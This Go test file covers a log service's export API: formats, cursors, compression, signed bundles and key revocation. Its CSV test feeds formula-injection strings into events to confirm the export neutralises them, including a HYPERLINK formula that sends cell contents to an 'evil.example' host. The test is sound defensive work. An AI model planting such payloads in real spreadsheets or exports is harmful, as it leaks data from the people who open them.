package api_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/zstd"

	"github.com/treeline-log/treeline/api"
	"github.com/treeline-log/treeline/log"
	"github.com/treeline-log/treeline/log/bundle"
)

// exportEnd is what stands at the end of an export.
type exportEnd struct {
	Log         string
	From, Size  uint64
	Count       uint64
	First       *uint64 `json:"first_index"`
	Last        *uint64 `json:"last_index"`
	SHA256      string
	Cursor      string
	Manifest    string `json:"manifest_sha256"`
	afterCursor string // the header's, to resume it with
}

// export fetches a whole export, and checks that its end is in the trailer.
func (s *testServer) export(query string) (body []byte, end exportEnd) {
	s.t.Helper()
	body, header, end, err := s.tryExport(query)
	if err != nil {
		s.t.Fatalf("export %s: %v", query, err)
	}
	if header.Get("Cache-Control") != "no-store" || !strings.HasPrefix(header.Get("Content-Disposition"), `attachment; filename="`) {
		s.t.Errorf("export %s: got header %v", query, header)
	}
	return body, end
}

func (s *testServer) tryExport(query string) (body []byte, header http.Header, end exportEnd, err error) {
	s.t.Helper()
	req, err := http.NewRequest(http.MethodGet, s.url+"/v1/export?"+query, nil)
	if err != nil {
		s.t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+s.admin)
	resp, err := (&http.Client{Transport: &http.Transport{DisableKeepAlives: true}}).Do(req) // which doesn't try again by itself
	if err != nil {
		return nil, nil, end, err
	}
	defer resp.Body.Close()
	body, err = io.ReadAll(resp.Body)
	if resp.StatusCode != http.StatusOK {
		s.t.Fatalf("export %s: got %d %s", query, resp.StatusCode, body)
	}
	end.afterCursor = resp.Header.Get("Export-Cursor")
	if err != nil {
		return body, resp.Header, end, err
	}
	s.describe(req, answer{resp.StatusCode, resp.Header, body})
	if err := json.Unmarshal([]byte(resp.Trailer.Get("Export-End")), &end); err != nil {
		s.t.Fatalf("trailer %v: %v", resp.Trailer, err)
	}
	return body, resp.Header, end, nil
}

// lines splits an export as NDJSON into its records and its end, and checks the end against them.
func (e exportEnd) lines(t *testing.T, body []byte) (records []record) {
	t.Helper()
	at := bytes.LastIndexByte(bytes.TrimSuffix(body, []byte("\n")), '\n') + 1
	var last struct{ End exportEnd }
	if err := json.Unmarshal(body[at:], &last); err != nil {
		t.Fatalf("the last line %s: %v", body[at:], err)
	}
	last.End.afterCursor = e.afterCursor
	if fmt.Sprint(last.End.Count, last.End.SHA256, last.End.Cursor) != fmt.Sprint(e.Count, e.SHA256, e.Cursor) {
		t.Errorf("the last line says %+v, the trailer %+v", last.End, e)
	}
	if got := sha256.Sum256(body[:at]); hex.EncodeToString(got[:]) != e.SHA256 {
		t.Errorf("SHA-256 of what came before: got %x, the end says %s", got, e.SHA256)
	}
	for line := range bytes.Lines(body[:at]) {
		var r record
		if err := json.Unmarshal(line, &r); err != nil {
			t.Fatalf("%s: %v", line, err)
		}
		records = append(records, r)
	}
	e.check(t, records)
	return records
}

// check compares the end with the records that came before it.
func (e exportEnd) check(t *testing.T, records []record) {
	t.Helper()
	if int(e.Count) != len(records) || (e.First == nil) != (len(records) == 0) || (e.Last == nil) != (len(records) == 0) {
		t.Fatalf("%d records, the end says %+v", len(records), e)
	}
	if len(records) > 0 && (*e.First != records[0].Index || *e.Last != records[len(records)-1].Index) {
		t.Errorf("records from %d to %d, the end says %d to %d", records[0].Index, records[len(records)-1].Index, *e.First, *e.Last)
	}
}

// An export has what a list has, in whatever form, oldest first.
func TestExportsAreLists(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, 10*time.Millisecond)
	s.appendLines(fixedEvents)
	for _, query := range []string{
		"", "action=user.*", "actor_id=alice", "outcome=denied&outcome=failure", "from=2026-01-02T00:00:00Z&to=2026-01-03T00:00:00Z",
		"metadata.plan=pro", "target_id=bob&target_type=role", "actor_id=nobody",
	} {
		want := ids(s.search("order=oldest&" + query))
		body, end := s.export(query)
		if got := ids(end.lines(t, body)); got != want {
			t.Errorf("%s as NDJSON: got %s, want %s", query, got, want)
		}
		body, end = s.export("format=json&" + query)
		var all struct {
			Data []record
			End  exportEnd
		}
		if err := json.Unmarshal(body, &all); err != nil {
			t.Fatalf("%s: %v", body, err)
		}
		if got := ids(all.Data); got != want || all.End.SHA256 != end.SHA256 {
			t.Errorf("%s as JSON: got %s, want %s", query, got, want)
		}
		end.check(t, all.Data)
		before := sha256.Sum256(body[:bytes.LastIndex(body, []byte(`,"end":`))])
		if end.SHA256 != hex.EncodeToString(before[:]) {
			t.Errorf("%s as JSON: SHA-256 of what came before the end is %x, it says %s", query, before, end.SHA256)
		}
		body, end = s.export("format=csv&" + query)
		rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var found []string
		for _, row := range rows[1:] {
			found = append(found, row[2])
		}
		if got := strings.Join(found, " "); got != want || int(end.Count) != len(found) {
			t.Errorf("%s as CSV: got %s, want %s, with end %+v", query, got, want, end)
		}
		if sum := sha256.Sum256(body); end.SHA256 != hex.EncodeToString(sum[:]) {
			t.Errorf("%s as CSV: SHA-256 is %x, the end says %s", query, sum, end.SHA256)
		}
	}
}

// However long it is, an export is of the log as it stood when it began, and whoever lost its rest gets that.
func TestExportsResume(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, 10*time.Millisecond)
	s.append("default", 0, 2500)
	body, end := s.export("")
	whole := end.lines(t, body)
	if len(whole) != 2500 || end.From != 0 || end.Size != 2500 {
		t.Fatalf("got %d records and end %+v", len(whole), end)
	}
	s.append("default", 2500, 2600)
	for _, had := range []int{0, 1, 999, 1000, 2499} {
		query := "cursor=" + end.afterCursor
		if had > 0 {
			query += fmt.Sprintf("&after=%d", had-1)
		}
		body, rest := s.export(query)
		if got := rest.lines(t, body); int(rest.From) != had || rest.Size != 2500 || ids(got) != ids(whole[had:]) {
			t.Errorf("after %d: got %d records and end %+v", had, len(got), rest)
		}
	}
	s.get("/v1/export?after=2500&cursor="+end.afterCursor, s.admin).problem(t, http.StatusBadRequest, "invalid_request")

	// The next one begins where this one ended.
	body, next := s.export("cursor=" + end.Cursor)
	if got := next.lines(t, body); len(got) != 100 || got[0].Index != 2500 || next.From != 2500 || next.Size != 2600 {
		t.Errorf("the next one: got %d records and end %+v", len(got), next)
	}
	body, next = s.export("cursor=" + next.Cursor)
	if got := next.lines(t, body); len(got) != 0 || next.From != 2600 || next.Size != 2600 {
		t.Errorf("with nothing new: got %d records and end %+v", len(got), next)
	}
	for name, query := range map[string]string{
		"another filter": "action=a&cursor=" + end.Cursor, "a list's": "cursor=", "of another log": "log=other&cursor=" + end.Cursor,
	} {
		if name == "of another log" {
			s.log("other")
		}
		s.get("/v1/export?"+query, s.admin).problem(t, http.StatusBadRequest, "invalid_request")
	}
}

// What an export can't go on with is never an export that ends.
func TestExportsBreakOff(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, time.Hour)
	for i := range 3 {
		s.do(request{method: "POST", path: "/v1/events/batch", key: s.admin, kind: "application/x-ndjson",
			body: strings.Repeat(`{"action":"a"}`+"\n", 1000*(i+1))})
	}
	for _, format := range []string{"ndjson", "json", "csv", "ndjson&compression=gzip", "json&compression=zstd"} {
		s.store.readsLeft.Store(1)
		s.get("/v1/export?format="+format, s.admin).problem(t, http.StatusInternalServerError, "internal")
		s.store.readsLeft.Store(4)
		body, _, _, err := s.tryExport("format=" + format)
		if err == nil || len(body) > 0 && bytes.Contains(body, []byte("sha256")) {
			t.Errorf("%s: got %d bytes and no error", format, len(body))
		}
		s.store.readsLeft.Store(0)
	}
}

func TestExportsInCompressedForm(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, 10*time.Millisecond)
	s.append("default", 0, 1200)
	plain, _ := s.export("")
	lines := func(body []byte) []byte { return body[:bytes.LastIndex(body, []byte(`{"end":`))] } // the end tells the time, in its cursor
	for _, c := range []struct {
		compression, accept, encoding, kind, name string
		open                                      func(io.Reader) (io.Reader, error)
	}{
		{"none", "identity", "", "application/x-ndjson", "default.ndjson", asIs},
		{"none", "gzip", "gzip", "application/x-ndjson", "default.ndjson", ungzip},
		{"none", "gzip, deflate, br, zstd", "zstd", "application/x-ndjson", "default.ndjson", unzstd},
		{"none", "zstd;q=0, gzip;q=0.5", "gzip", "application/x-ndjson", "default.ndjson", ungzip},
		{"gzip", "zstd", "", "application/gzip", "default.ndjson.gz", ungzip},
		{"zstd", "gzip", "", "application/zstd", "default.ndjson.zst", unzstd},
	} {
		req, err := http.NewRequest(http.MethodGet, s.url+"/v1/export?compression="+c.compression, nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+s.admin)
		req.Header.Set("Accept-Encoding", c.accept)
		got := s.send(req)
		opened, err := c.open(bytes.NewReader(got.body))
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(opened)
		if err != nil {
			t.Fatal(err)
		}
		if got.header.Get("Content-Encoding") != c.encoding || got.header.Get("Content-Type") != c.kind ||
			got.header.Get("Content-Disposition") != `attachment; filename="`+c.name+`"` {
			t.Errorf("%s accepting %s: got header %v", c.compression, c.accept, got.header)
		}
		if !bytes.Equal(lines(body), lines(plain)) {
			t.Errorf("%s accepting %s: got other content, %d bytes, want %d", c.compression, c.accept, len(body), len(plain))
		}
	}
}

func asIs(r io.Reader) (io.Reader, error)   { return r, nil }
func ungzip(r io.Reader) (io.Reader, error) { return gzip.NewReader(r) }
func unzstd(r io.Reader) (io.Reader, error) { return zstd.NewReader(r) }

// An export may take longer than other answers, as long as its client takes what comes.
func TestExportsHaveTime(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, time.Hour)
	s.post("/v1/events", s.admin, `{"action":"a"}`)
	hasty := httptest.NewUnstartedServer(s.api)
	hasty.Config.WriteTimeout = 100 * time.Millisecond
	hasty.Start()
	t.Cleanup(hasty.Close)
	s.url = hasty.URL
	time.AfterFunc(300*time.Millisecond, s.reading(0))
	body, end := s.export("")
	if got := end.lines(t, body); len(got) != 1 {
		t.Errorf("got %d records, want 1", len(got))
	}
}

// Exports take memory for as long as they last, so a log has only a few at a time.
func TestExportsAtATime(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, time.Hour)
	s.log("other")
	for _, name := range []string{"default", "other"} {
		s.post("/v1/events?log="+name, s.admin, `{"action":"a"}`)
	}
	before := s.store.reads.Load()
	release := s.reading(0)
	done := make(chan error, 4)
	for range 4 {
		go func() {
			_, _, _, err := s.tryExport("")
			done <- err
		}()
	}
	s.until("four exports", func() bool { return s.store.reads.Load() == before+4 })
	s.get("/v1/export", s.admin).problem(t, http.StatusTooManyRequests, "too_many_exports")
	go func() {
		_, _, _, err := s.tryExport("log=other")
		done <- err
	}()
	s.until("one of another log", func() bool { return s.store.reads.Load() == before+5 })
	release()
	for range 5 {
		if err := <-done; err != nil {
			t.Error(err)
		}
	}
	s.export("") // they are given back
}

// A stop ends exports, and not as if they were whole.
func TestExportsEndWithTheServer(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, time.Hour)
	for range 3 {
		s.do(request{method: "POST", path: "/v1/events/batch", key: s.admin, kind: "application/x-ndjson", body: strings.Repeat(`{"action":"a"}`+"\n", 2000)})
	}
	release := s.reading(3000)
	failed, began := make(chan error, 1), make(chan struct{})
	go func() {
		req, _ := http.NewRequest(http.MethodGet, s.url+"/v1/export?format=csv", nil)
		req.Header.Set("Authorization", "Bearer "+s.admin)
		resp, err := http.DefaultClient.Do(req)
		close(began)
		if err == nil {
			_, err = io.Copy(io.Discard, resp.Body)
		}
		failed <- err
	}()
	<-began
	s.api.Close()
	release()
	if err := <-failed; !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Errorf("got %v, want an answer that is cut off", err)
	}
}

// A key that is revoked gets nothing more of what is being sent to it, nor what it waits for.
func TestRevokedKeysInFlight(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, 10*time.Millisecond)
	for range 3 {
		s.do(request{method: "POST", path: "/v1/events/batch?wait=signed", key: s.admin, kind: "application/x-ndjson", body: strings.Repeat(`{"action":"a"}`+"\n", 2000)})
	}
	for _, format := range []string{"csv", "bundle"} {
		k := s.makeKey(s.admin, `{"role":"exporter"}`)
		release := s.reading(3000)
		failed, began := make(chan error, 1), make(chan struct{})
		go func() {
			req, _ := http.NewRequest(http.MethodGet, s.url+"/v1/export?format="+format, nil)
			req.Header.Set("Authorization", "Bearer "+k.Key)
			resp, err := http.DefaultClient.Do(req)
			close(began)
			if err == nil {
				_, err = io.Copy(io.Discard, resp.Body)
			}
			failed <- err
		}()
		<-began
		s.do(request{method: "DELETE", path: "/v1/keys/" + k.ID, key: s.admin}).into(t, http.StatusOK, new(any))
		release()
		if err := <-failed; !errors.Is(err, io.ErrUnexpectedEOF) {
			t.Errorf("%s: got %v, want an answer that is cut off", format, err)
		}
	}
	k := s.makeKey(s.admin, `{"role":"reader"}`)
	answered := make(chan answer, 1)
	go func() { answered <- s.get("/v1/feed?from=6000", k.Key) }()
	time.Sleep(200 * time.Millisecond) // so that it waits
	s.do(request{method: "DELETE", path: "/v1/keys/" + k.ID, key: s.admin}).into(t, http.StatusOK, new(any))
	s.post("/v1/events", s.admin, `{"action":"a"}`)
	(<-answered).problem(t, http.StatusUnauthorized, "key_revoked")
}

func TestWrongExports(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, 10*time.Millisecond)
	s.append("default", 0, 3)
	for _, query := range []string{
		"format=xml", "format=", "compression=br", "after=3", "after=-1", "after=x", "cursor=x", "limit=5", "order=oldest", "q=x&format=csv&format=csv",
		"actor=u", "from=yesterday",
	} {
		s.get("/v1/export?"+query, s.admin).problem(t, http.StatusBadRequest, "invalid_request")
	}
	s.get("/v1/export", s.key(log.RoleWriter, "default")).problem(t, http.StatusForbidden, "forbidden")
	if got := s.do(request{method: "HEAD", path: "/v1/export", key: s.admin}); got.status != http.StatusOK || len(got.body) > 0 ||
		got.header.Get("Export-Cursor") == "" {
		t.Errorf("HEAD: got %d %v", got.status, got.header)
	}
}

// A cell of a CSV is never a formula, and is the text that it stands for but for one apostrophe.
func TestCSVCells(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, 10*time.Millisecond)
	texts := []string{
		"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x", "'quoted", `say "hi"`, "a,b;c", "two\r\nlines", " =1", "żółć 日本",
		`=HYPERLINK("http://evil.example/?"&A1,"click")`, "a;=1+1", "|cmd", "%0A=1",
	}
	var b strings.Builder
	for _, text := range texts {
		event := map[string]any{"action": "a", "actor_id": text, "actor_name": text, "target_id": text, "target_name": text, "user_agent": text,
			"metadata": map[string]any{text: text}, "changes": []any{map[string]any{"field": "f", "before": text, "after": []any{text}}}}
		line, err := json.Marshal(event)
		if err != nil {
			t.Fatal(err)
		}
		b.Write(append(line, '\n'))
	}
	s.appendLines(b.String())
	body, _ := s.export("format=csv")
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range rows[1:] {
		cells := make(map[string]string)
		for j, name := range rows[0] {
			cell := row[j]
			if cell != "" && (strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) || slices.Contains([]rune("＝＋－＠"), []rune(cell)[0])) {
				t.Errorf("%q begins as a formula does", cell)
			}
			cells[name] = strings.TrimPrefix(cell, "'")
		}
		for _, name := range []string{"actor_id", "actor_name", "target_id", "target_name", "user_agent"} {
			if got, want := cells[name], strings.ReplaceAll(texts[i], "\r\n", "\n"); got != want { // Go's reader has one end of line
				t.Errorf("%s: got %q, want %q", name, got, want)
			}
		}
		var metadata map[string]string
		if err := json.Unmarshal([]byte(cells["metadata"]), &metadata); err != nil || metadata[texts[i]] != texts[i] {
			t.Errorf("metadata: got %s, %v", cells["metadata"], err)
		}
		var changes []struct{ Field, Before string }
		if err := json.Unmarshal([]byte(cells["changes"]), &changes); err != nil || len(changes) != 1 || changes[0].Before != texts[i] {
			t.Errorf("changes: got %s, %v", cells["changes"], err)
		}
	}
}

func TestCSVOfManyParts(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, 10*time.Millisecond)
	var targets, changes []string
	for i := range 12 {
		targets = append(targets, fmt.Sprintf(`{"id":"t%d","type":"k"}`, i))
		changes = append(changes, fmt.Sprintf(`{"after":%d,"field":"f"}`, i))
	}
	s.appendLines(`{"action":"a","targets":[` + strings.Join(targets, ",") + `],"changes":[` + strings.Join(changes, ",") + `]}` + "\n")
	body, _ := s.export("format=csv")
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	cell := func(name string) string { return rows[1][slices.Index(rows[0], name)] }
	if got, want := cell("more_targets"), "["+strings.Join(targets[1:], ",")+"]"; got != want {
		t.Errorf("more_targets: got %s, want %s", got, want)
	}
	if got, want := cell("changes"), "["+strings.Join(changes, ",")+"]"; got != want {
		t.Errorf("changes: got %s, want %s", got, want)
	}
	if cell("target_id") != "t0" || cell("target_type") != "k" || cell("metadata") != "" || cell("index") != "0" {
		t.Errorf("got %q", rows[1])
	}
}

// A bundle has what a list has of what is signed, and verifies.
func TestBundles(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, 10*time.Millisecond)
	trust := log.Trust{Keys: verifiers(t, "test.example/logs/default")}
	verify := func(query string) (*bundle.Verification, exportEnd) {
		t.Helper()
		body, end := s.export("format=bundle&" + query)
		v, err := bundle.Verify(bytes.NewReader(body), trust)
		if err != nil {
			t.Fatalf("%s: %v", query, err)
		}
		if sum := sha256.Sum256(body); hex.EncodeToString(sum[:]) != end.SHA256 || hex.EncodeToString(v.Manifest[:]) != end.Manifest ||
			v.Count != end.Count || v.From != end.From || v.To != end.Size {
			t.Errorf("%s: the end says %+v, the bundle is %+v", query, end, v)
		}
		return v, end
	}
	if v, _ := verify(""); v.Count != 0 || !v.Complete {
		t.Errorf("of an empty log: got %+v", v)
	}
	s.appendLines(fixedEvents)
	s.append("default", 100, 1200)
	v, end := verify("")
	if v.Count != 1105 || !v.Complete || v.Filter != "" || v.Checkpoint.State != log.StateSigned {
		t.Errorf("all: got %+v", v)
	}
	for query, want := range map[string]uint64{
		"action=user.*": 3, "action=a": 1100, "actor_id=nobody": 0, "actor_id=alice&outcome=denied": 1, "to=2026-01-02T00:00:00Z": 2, "received_from=-1h": 1105,
	} {
		if v, _ := verify(query); v.Count != want || v.To != 1105 || v.Complete != (want == 1105) || v.Filter == "" {
			t.Errorf("%s: got %+v, want %d events", query, v, want)
		}
	}
	if v, _ := verify("received_from=-1h"); !strings.HasPrefix(v.Filter, "received_from=20") {
		t.Errorf("a time before now: got the filter %s", v.Filter)
	}
	s.append("default", 1200, 1300)
	if v, next := verify("cursor=" + end.Cursor); v.Count != 100 || v.From != 1105 || !v.Complete || *next.First != 1105 {
		t.Errorf("the next: got %+v", v)
	}
	if v, _ := verify("after=1199"); v.Count != 5 || v.From != 1200 {
		t.Errorf("the last five: got %+v", v)
	}
	s.get("/v1/export?format=bundle&compression=gzip", s.admin).problem(t, http.StatusBadRequest, "invalid_request")
}

// Events that aren't signed yet are in no bundle: they come with the next.
func TestBundlesEndAtTheCheckpoint(t *testing.T) {
	t.Parallel()
	s := newTestServer(t, time.Hour)
	s.post("/v1/events", s.admin, `{"action":"a"}`)
	_, end := s.export("format=bundle")
	if end.Count != 0 || end.Size != 0 {
		t.Errorf("got end %+v", end)
	}
	body, whole := s.export("")
	if got := whole.lines(t, body); len(got) != 1 {
		t.Errorf("as NDJSON: got %d records", len(got))
	}
	s.get("/v1/export?format=bundle&cursor="+whole.Cursor, s.admin).problem(t, http.StatusConflict, "not_signed")
}

// What a bundle has no room for comes in the next one. Not parallel, since all bundles are small meanwhile.
func TestBundlesThatAreFull(t *testing.T) {
	s := newTestServer(t, 10*time.Millisecond)
	s.append("default", 0, 2500)
	defer api.SetBundleEvents(1100)()
	trust := log.Trust{Keys: verifiers(t, "test.example/logs/default")}
	cursor, next := "", uint64(0)
	for _, want := range []uint64{1100, 1100, 300} {
		body, end := s.export("format=bundle" + cursor)
		v, err := bundle.Verify(bytes.NewReader(body), trust)
		if err != nil {
			t.Fatal(err)
		}
		if v.Count != want || v.From != next || v.To != next+want || !v.Complete || end.Size != v.To || *end.Last != v.To-1 || end.Count != want {
			t.Errorf("from %d: got %+v with end %+v, want %d events", next, v, end, want)
		}
		cursor, next = "&cursor="+end.Cursor, v.To
	}
}
